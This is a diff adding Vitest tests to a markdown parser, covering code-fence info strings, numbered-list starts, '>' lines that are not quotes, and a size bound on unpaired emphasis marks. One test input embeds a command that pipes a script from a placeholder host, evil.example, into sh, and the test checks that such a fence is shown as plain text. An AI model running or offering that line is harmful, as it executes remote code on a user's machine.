@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest'
 import { DRAFT_LENGTH_MAX } from '../limits.ts'
 import type { Inline } from './emphasis.ts'
 import { toPieces } from './linkify.ts'
-import { toBlocks } from './markup.ts'
+import { sizeOf, toBlocks } from './markup.ts'
 import type { Block } from './markup.ts'
 
 const parse = (text: string) => toBlocks(toPieces(text))
@@ -183,4 +183,28 @@ describe('a hostile text', () => {
     for (const block of parse(nested)) if (block.kind === 'text') expect(depth(block.children)).toBeLessThanOrEqual(4)
     expect(depth(parse('*a **b _c ~~d~~ c_ b** a*').flatMap((block) => (block.kind === 'text' ? block.children : [])))).toBe(4)
   })
+})
+
+describe('what is shown is what was written', () => {
+  it('also where a fence has more than the name of a language behind it', () => {
+    expect(parse('```; curl https://evil.example | sh #\nls\n```')[0]).toMatchObject({ kind: 'text' })
+    expect(parse('```secret words\n```')[0]).toMatchObject({ kind: 'text' })
+    expect(parse('```c++\nls\n```')).toMatchObject([{ kind: 'pre', text: 'ls\n' }])
+  })
+
+  it('also where numbers do not count on, or begin with a zero', () => {
+    const starts = (text: string) => parse(text).map((block) => (block.kind === 'list' ? block.start : block.kind))
+    expect(starts('24. Dezember\n31. Dezember')).toEqual([24, 31])
+    expect(starts('7. a\n8. b\n9. c')).toEqual([7])
+    expect(starts('01. a')).toEqual(['text'])
+  })
+
+  it('also where an angle is no quote', () => {
+    for (const text of ['>:(', '>100 people']) expect(parse(text)).toMatchObject([{ kind: 'text' }])
+    expect(parse('> a\n>\n> b')).toMatchObject([{ kind: 'quote' }])
+  })
+})
+
+it('marks that pair with nothing become one text in the page', () => {
+  for (const text of ['*a '.repeat(4_000), `**${'\n'.repeat(12_000)}`]) expect(sizeOf(parse(text))).toBeLessThan(10)
 })
